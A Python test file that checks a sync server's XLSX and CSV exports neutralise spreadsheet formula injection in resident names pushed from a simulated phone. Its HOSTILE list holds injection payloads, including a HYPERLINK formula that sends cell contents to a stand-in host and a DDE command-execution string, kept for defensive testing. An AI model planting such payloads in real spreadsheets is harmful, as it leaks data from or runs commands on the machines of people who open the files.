"""No export runs what a phone typed: formula-looking text is written as text, whole."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

from fastapi.testclient import TestClient
from openpyxl import load_workbook

from sync_server.exports.cells import neutral
from tests.factories import TinyGrid
from tests.sync_server.campaign_helpers import create_campaign
from tests.sync_server.console.conftest import OpenConsole
from tests.sync_server.wire_device import WireDevice

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def _rounds(client: TestClient) -> Iterator[tuple[WireDevice, list[str]]]:
    """A worker's phone renames the grid's residents to formulas, as many at a time as the grid
    has people; after each push, the names it set."""
    start = 0
    while start < len(HOSTILE):
        phone = WireDevice(client, "w11")  # a fresh download: the last round's names as base
        phone.pull()
        residents = sorted(phone.of("resident"))[: len(HOSTILE) - start]
        names = HOSTILE[start : start + len(residents)]
        ops = [
            phone.edit("resident", rid, name=name)
            for rid, name in zip(residents, names, strict=True)
        ]
        results = phone.push(ops)
        assert {r["status"] for r in results} == {"applied"}, results
        start += len(names)
        yield phone, names


def _xlsx_cells(content: bytes) -> list[tuple[str, object]]:
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    return [(cell.data_type, cell.value) for row in sheet.iter_rows() for cell in row]


def _check(values: list[object], names: list[str]) -> None:
    texts = [v for v in values if isinstance(v, str)]
    for name in names:
        # The server trims a name's surrounding whitespace; what is left starts a formula.
        assert "'" + name.strip() in texts, f"{name!r} is not in the export as text"
    for text in texts:
        assert not text.startswith(("=", "+", "-", "@", "\t", "\r")), text


def _check_xlsx(content: bytes, names: list[str]) -> None:
    cells = _xlsx_cells(content)
    assert all(kind != "f" for kind, _ in cells), "a cell is a formula"
    _check([value for _, value in cells], names)


def _check_csv(content: bytes, names: list[str]) -> None:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    _check([value for row in rows for value in row], names)


def test_the_missed_list_exports_write_formulas_as_text(client: TestClient, tiny: TinyGrid) -> None:
    campaign = create_campaign(client, "T1-1-1-1")
    base = f"/api/v1/campaigns/{campaign['id']}/missed"
    for phone, names in _rounds(client):
        for fmt, check in ((".xlsx", _check_xlsx), (".csv", _check_csv)):
            response = client.get(base + fmt, headers=phone.headers)
            assert response.status_code == 200, response.text
            check(response.content, names)


def test_the_console_exports_write_formulas_as_text(
    client: TestClient, tiny: TinyGrid, browser: OpenConsole
) -> None:
    admin = browser("admin")
    node = tiny.nodes["T1-1-1-1"].id
    campaign = create_campaign(client, "T1-1-1-1")
    for _, names in _rounds(client):
        for fmt, check in (("xlsx", _check_xlsx), ("csv", _check_csv)):
            residents = admin.get(f"/console/export/residents?node={node}&format={fmt}")
            assert residents.status_code == 200, residents.text
            check(residents.content, names)
            missed = admin.get(
                f"/console/export/missed?campaign={campaign['id']}&node={node}&format={fmt}"
            )
            assert missed.status_code == 200, missed.text
            check(missed.content, names)


def test_ordinary_values_are_written_unchanged() -> None:
    for value in ("王小明", "350102199001011234", "13800000000", "0591-87654321", 42, None, ""):
        assert neutral(value) == value
    assert neutral("=1+1") == "'=1+1"
    assert neutral("\t=1") == "'\t=1" and neutral("-5") == "'-5" and neutral(-5) == -5
